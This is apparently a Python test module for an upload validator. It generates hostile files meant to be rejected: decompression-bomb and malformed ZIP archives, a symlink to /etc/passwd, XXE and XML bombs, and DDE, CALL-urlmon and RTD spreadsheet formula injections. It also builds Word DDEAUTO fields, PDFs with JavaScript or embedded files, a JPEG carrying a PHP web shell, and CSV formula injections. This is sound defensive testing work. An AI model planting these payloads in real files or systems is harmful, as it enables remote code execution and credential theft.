"""Hostile files by the tricks of archives, markup, formulas, fields and pictures, beside those of hostile_files."""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping

from tests.hostile_files import (
    ALL,
    MAIN,
    MEGABYTE,
    OLE,
    TABLES,
    UPLOAD,
    File,
    a_document,
    a_jpg,
    a_pdf,
    a_png,
    a_stream,
    a_workbook,
    office,
    packed,
    raw_zip,
    repeated,
)

SHEET = "xl/worksheets/sheet1.xml"


def _kept(parts: Mapping[str, bytes]) -> list[tuple[str, bytes, int]]:
    return [(name, repeated(content, 1), len(content)) for name, content in parts.items()]


def _ends(count: int, directory: bytes, start: int) -> bytes:
    return b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), start, 0)


def overlapping(parts: Mapping[str, bytes]) -> bytes:
    """Return an archive nine of whose parts are the same packed megabyte."""
    whole = raw_zip(*_kept(parts), ("x0.xml", repeated(bytes(MEGABYTE), 1), MEGABYTE))
    end = whole.rfind(b"PK\5\6")
    start = struct.unpack("<I", whole[end + 16 : end + 20])[0]
    directory = whole[start:end]
    last = directory[directory.rfind(b"PK\1\2") :]
    directory += b"".join(last.replace(b"x0.xml", b"y%d.xml" % at) for at in range(9))
    return whole[:start] + directory + _ends(len(parts) + 10, directory, start)


def quoting(parts: Mapping[str, bytes]) -> bytes:
    """Return an archive each of whose parts quotes the head of the next, and ends in the same five megabytes."""
    kernel = repeated(bytes(MEGABYTE), 5)

    def head(name: bytes, size: int, full: int, *, place: int | None = None) -> bytes:
        facts = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, 0, size, full, len(name), 0)
        if place is None:
            return b"PK\3\4" + facts + name
        return b"PK\1\2\x14\0" + facts + struct.pack("<HHHII", 0, 0, 0, 0, place) + name

    body = raw_zip(*_kept(parts))
    end = body.rfind(b"PK\5\6")
    start = struct.unpack("<I", body[end + 16 : end + 20])[0]
    body, directory = body[:start], body[start:end]
    size, full, blob = len(kernel), 5 * MEGABYTE, kernel
    heads = [(b"xl/q%d.xml" % at) for at in range(300)]
    blob = head(heads[-1], size, full) + blob
    listed = [(heads[-1], size, full)]
    for name in reversed(heads[:-1]):
        next_head = head(*listed[-1])
        quote = b"\0" + struct.pack("<HH", len(next_head), len(next_head) ^ 0xFFFF)
        size, full = len(quote) + len(next_head) + listed[-1][1], len(next_head) + listed[-1][2]
        blob = head(name, size, full) + quote + blob
        listed.append((name, size, full))
    place = len(body)
    for name, size, full in reversed(listed):
        directory += head(name, size, full, place=place)
        place += 30 + len(name) + 5
    return body + blob + directory + _ends(len(parts) + len(listed), directory, len(body) + len(blob))


def zip64_that_lies(parts: Mapping[str, bytes]) -> bytes:
    whole = packed(dict(parts))
    end = whole.rfind(b"PK\5\6")
    start = struct.unpack("<I", whole[end + 16 : end + 20])[0]
    more = b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 2**40, 2**40, 2**50, start)
    more += b"PK\6\7" + struct.pack("<IQI", 0, end, 1)
    return whole[:end] + more + _ends(0xFFFF, b"", 0xFFFFFFFF)


def packed_by(parts: Mapping[str, bytes], method: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_link(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO(packed(dict(parts)))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("xl/media/a.png")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def archives() -> Iterator[File]:
    for ending, parts, own, doors in office():
        whole, kept = packed(parts), _kept(parts)
        for name, content in {
            "overlapping": overlapping(parts),
            "quoting": quoting(parts),
            "zip64": zip64_that_lies(parts),
            "directory": raw_zip(*kept, *((f"a{at}", b"\3\0", 0) for at in range(20_000))),
            "same-name-in-capitals": packed(parts | {own.upper(): parts[own]}),
            "other-name-within": whole.replace(own.encode(), own.replace("xml", "xmk").encode(), 1),
            "nul-in-a-name": raw_zip(*kept, ("xl/a\0.xml", repeated(b"<a/>", 1), 4)),
            "bzip2": packed_by(parts, zipfile.ZIP_BZIP2),
            "lzma": packed_by(parts, zipfile.ZIP_LZMA),
            "link": with_link(parts),
            "archive-as-comment": whole[:-2] + struct.pack("<H", len(whole)) + whole,
            "archive-before": whole + whole,
            "without-end": raw_zip(*kept, says=0xFFFFFFFF),
            "directory-elsewhere": whole[:-6] + b"\xff\xff\xff\x7f" + whole[-2:],
            "program-with-turned-name": packed(parts | {"xl/\u202egpj.exe": b"MZ" + bytes(60)}),
        }.items():
            yield f"{name}.{ending}", content, doors


def markup() -> Iterator[File]:
    entity = '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    for ending, parts, own, doors in office():
        for name, content in {
            "utf-16-be": b"\xfe\xff" + entity.encode("utf-16-be"),
            "utf-32": entity.encode("utf-32"),
            "utf-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>',
            "far-doctype": b"<!DOCTYPE" + b" " * 70_000 + b"a [<!ENTITY x 'y'>]><a>&x;</a>",
            "deep": b"<a>" * 100_000 + b"</a>" * 100_000,
            "long-attribute": b"<a b='" + b"x" * 10_000_000 + b"'/>",
            "instructions": b"<a>" + b"<?p x?>" * 1_000_000 + b"</a>",
            "comments": b"<a>" + b"<!--x-->" * 1_000_000 + b"</a>",
            "long-name": b"<" + b"a" * 5_000_000 + b"/>",
            "names": b"<a>" + b"".join(b"<n%d/>" % at for at in range(60_000)) + b"</a>",
            "namespaces": b"<a>" + b"".join(b"<p:a xmlns:p='u%d'/>" % at for at in range(60_000)) + b"</a>",
            "two-marks": b"\xef\xbb\xbf\xef\xbb\xbf<a/>",
            "two-roots": b"<a/><b/>",
            "script": b"<a><svg:script xmlns:svg='s'>alert(1)</svg:script></a>",
        }.items():
            yield f"markup-{name}.{ending}", packed(parts | {own: content}), doors


def _sheet(rows: str, more: str = "") -> bytes:
    heads = zip("ABC", ("E-post", "Namn", "Belopp"), strict=True)
    first = "".join(f'<c r="{at}1" t="inlineStr"><is><t>{text}</t></is></c>' for at, text in heads)
    rows = f'<sheetData><row r="1">{first}</row>{rows}</sheetData>'
    return f'<worksheet xmlns="{MAIN}">{rows}{more}</worksheet>'.encode()


def sheets() -> Iterator[File]:
    book = a_workbook()
    for name, formula in {
        "topic-by-number": "cmd&#124;'/C calc'!A0",
        "topic-in-two": "cmd<![CDATA[|'/C calc'!A0]]>",
        "service-by-number": 'WEBS&#69;RVICE("http://127.0.0.1:9/")',
        "picture": '_xlfn.IMAGE("http://127.0.0.1:9/?"&amp;A1)',
        "call": 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://127.0.0.1:9/","a",0,0)',
        "rtd": 'RTD("cmd.exe",,"/c calc")',
    }.items():
        cell = f'<row r="2"><c r="C2"><f>{formula}</f><v>1</v></c></row>'
        yield f"formula-{name}.xlsx", packed(book | {SHEET: _sheet(cell)}), ALL
    merged = "<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 100_000 + "</mergeCells>"
    for name, sheet in {
        "cell-nowhere": _sheet('<row r="1"><c r="ZZZZ99999999"><v>1</v></c></row>'),
        "merged-by-the-million": _sheet("", merged),
        "merged-all": _sheet(
            '<row r="2"><c r="C2"><v>x</v></c></row>',
            '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        ),
        "row-of-many-digits": _sheet(f'<row r="{"9" * 6_000}"><c><v>1</v></c></row>'),
        "style-of-many-digits": _sheet(f'<row r="2"><c r="C2" s="{"9" * 5_000}"><v>1</v></c></row>'),
        "text-of-many-runs": _sheet(
            '<row r="2"><c r="C2" t="inlineStr"><is>' + "<r><t>a</t></r>" * 200_000 + "</is></c></row>"
        ),
        "long-formula": _sheet(f'<row r="2"><c r="C2"><f>{"A1+" * 2_000_000}A1</f></c></row>'),
    }.items():
        yield f"{name}.xlsx", packed(book | {SHEET: sheet}), TABLES
    query = '<connection id="1" name="a" type="4" refreshOnLoad="1"><webPr url="http://127.0.0.1:9/"/></connection>'
    connections = f'<connections xmlns="{MAIN}">{query}</connections>'.encode()
    yield "query.xlsx", packed(book | {"xl/connections.xml": connections}), ALL
    macros = b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    yield "macros-elsewhere.xlsx", packed(book | {"xl/other/sheet9.xml": macros}), ALL


def documents() -> Iterator[File]:
    parts = a_document()

    def told(name: str, inside: bytes, **more: bytes) -> File:
        text = b'<w:document xmlns:w="w" xmlns:r="r"><w:body>%s</w:body></w:document>' % inside
        return f"{name}.docx", packed(parts | {"word/document.xml": text}, **more), UPLOAD

    for name, field in {
        "picture": b'INCLUDEPICTURE "http://127.0.0.1:9/a.png" \\d',
        "text": b'INCLUDETEXT "\\\\\\\\host\\\\a.docx"',
        "sheet": b'LINK Excel.Sheet.8 "c:\\\\a.xls"',
        "topic-in-two": b"DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe",
        "topic-by-number": b"&#68;DEAUTO c:\\\\cmd.exe",
    }.items():
        yield told(f"field-{name}", b"<w:p><w:r><w:instrText>%s</w:instrText></w:r></w:p>" % field)
    yield told("page-within", b'<w:altChunk r:id="rId1"/>', word__a_dot_mht=b"MIME-Version: 1.0\r\n\r\nx")
    for name, content in {
        "object-as-picture": OLE + bytes(600),
        "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
        "class": b"\xca\xfe\xba\xbe" + bytes(60),
        "flash": b"CWS\x0a" + bytes(60),
        "jar": packed({"META-INF/MANIFEST.MF": b"a"}),
        "picture-with-script": b"<svg><script>alert(1)</script></svg>",
    }.items():
        yield told(name, b"", word__media__image1_dot_png=content)
    declared = b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
    yield told("entity-in-properties", b"", customXml__item1_dot_xml=declared)


def pictures() -> Iterator[File]:
    script = b"<< /S /JavaScript /JS (1) >>"
    twice = a_stream(zlib.compress(zlib.compress(script)))
    a85 = a_stream(base64.a85encode(zlib.compress(script)) + b"~>")
    sized = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 65_000, 65_000, 1) + b"\x01\x11\0"
    pixels = zlib.compress(bytes(MEGABYTE))
    files = {
        "submits.pdf": a_pdf(b"<< /S /SubmitForm /F (http://127.0.0.1:9/) >>"),
        "plays.pdf": a_pdf(b"<< /S /Rendition /JS 3 0 R >>"),
        "file-within.pdf": a_pdf(b"<< /Names << /EmbeddedFiles 2 0 R >> >>"),
        "file-within-escaped.pdf": a_pdf(b"<< /Type /#45mbeddedFile >>"),
        "file-within-packed.pdf": a_pdf(a_stream(zlib.compress(b"<< /Type /Filespec /EF << /F 3 0 R >> >>"))),
        "file-on-page.pdf": a_pdf(b"<< /Subtype /FileAttachment /FS 3 0 R >>"),
        "file-elsewhere.pdf": a_pdf(b"<< /Type /Filespec /EF 3 0 R >>"),
        "file-across-pieces.pdf": a_pdf(a_stream(zlib.compress(b" " * 249_990 + b"/EmbeddedFiles 2 0 R"))),
        "form-of-a-program.pdf": a_pdf(b"<< /AcroForm << /XFA 4 0 R >> >>"),
        "form-of-parts.pdf": a_pdf(b"<< /XFA [(preamble) 4 0 R] >>"),
        "form-escaped.pdf": a_pdf(b"<< /X#46A 4 0 R >>"),
        "leads-within.pdf": a_pdf(b"<< /S /GoToE /F (a.pdf) >>"),
        "script-packed-twice.pdf": a_pdf(twice.replace(b"/FlateDecode", b"[/FlateDecode /FlateDecode]")),
        "script-in-letters.pdf": a_pdf(a85.replace(b"/FlateDecode", b"[/ASCII85Decode /FlateDecode]")),
        "script-behind-the-end.pdf": a_pdf(b"<< >>") + a_pdf(script),
        "begins-late.pdf": b"junk" * 300 + a_pdf(),
        "two-heads.png": a_png(1, 1, (b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))),
        "profiles.png": a_png(1, 1, *[(b"iCCP", b"a\0\0" + pixels)] * 300),
        "text.png": a_png(1, 1, (b"iTXt", b"a\0\1\0\0\0" + zlib.compress(bytes(50_000_000)))),
        "shows-nothing.png": a_png()[:33] + b"\0\0\0\0IEND\xaeB`\x82",
        "no-height.jpg": a_jpg(1, 0),
        "no-width.jpg": a_jpg(0, 1),
        "two-sizes.jpg": a_jpg()[:20] + sized + a_jpg()[20:],
        "part-of-no-length.jpg": a_jpg()[:20] + b"\xff\xe1\0\0" + a_jpg()[20:],
        "page-within.jpg": a_jpg()[:20] + b"\xff\xe1\0\x1c<script>alert(1)</script>" + a_jpg()[20:],
        "program-of-a-server.jpg": a_jpg()[:-2] + b"<?php system($_GET[0]); ?>\xff\xd9",
    }
    for name, content in files.items():
        yield name, content, UPLOAD


def tables() -> Iterator[File]:
    head = b"E-post;Namn;Belopp\n"
    for number, begins in enumerate(
        ("\t=1+1", "\r=1+1", "\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "\uff20SUM(1)", "\u200b=1+1", "\u00a0=1+1",
         "\ufeff=1+1", "\u2028=1+1", '"\t=1+1"')
    ):  # fmt: skip
        yield f"begins-{number}.csv", head + b"a@example.org;" + begins.encode() + b";1\n", UPLOAD
    yield "half.csv", "E-post;Belopp\na@example.org;1\n".encode("utf-16") + b"x", TABLES
    yield "gzip.csv", gzip.compress(head), ALL
    yield "database.csv", b"SQLite format 3\0" + bytes(100), ALL
    yield "markup.csv", b"  \n<?xml version='1.0'?><a/>", ALL
    yield "open.csv", head + b'a@example.org;"' + b"x\n" * 1_000_000, TABLES


def hostile_tricks() -> Iterator[File]:
    """Yield every file: its name, its content, and the doors at which it must be refused."""
    for kind in (archives, markup, sheets, documents, pictures, tables):
        for name, content, doors in kind():
            yield f"{kind.__name__}-{name}", content, doors
